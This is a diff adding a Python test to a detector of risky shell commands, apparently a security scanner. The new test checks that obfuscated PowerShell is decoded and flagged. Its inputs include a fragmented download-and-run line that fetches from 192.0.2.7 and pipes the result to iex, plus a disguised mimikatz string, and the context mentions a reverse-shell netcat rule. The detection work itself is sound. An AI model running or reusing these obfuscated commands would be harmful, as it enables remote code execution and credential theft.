@@ -143,6 +143,18 @@ def test_words_that_are_broken_up_are_put_together(line: str, rule: str, at: str
     assert line[found.loc[rule, "offset"] :].startswith(at)
 
 
+def test_constants_of_powershell_are_worked_out() -> None:
+    lines = [
+        "powershell ($w.('Down'+'loadString')('http://192.0.2.7/a'))|&('{1}{0}'-f'ex','i')",
+        "powershell ([char]109+'imi'+'katz')",
+    ]
+    found = risky_commands(pandas.DataFrame({"cmd": lines}), "cmd")
+    told = found[found["decode_path"] == "constants worked out"]
+    assert {(0, "powershell-download-and-run"), (1, "mimikatz")} <= set(_rules(told))
+    assert told["offset"].tolist() == [0] * len(told)
+    assert "mimikatz" not in risky_commands(pandas.DataFrame({"cmd": lines}), "cmd", decode=False)["rule"].tolist()
+
+
 def test_as_written_is_told_before_other_views() -> None:
     found = risky_commands(pandas.DataFrame({"cmd": [f"echo ^^^ & {NETCAT}"]}), "cmd")
     assert found.loc[found["rule"] == "reverse-shell-netcat", "decode_path"].isna().tolist() == [True]
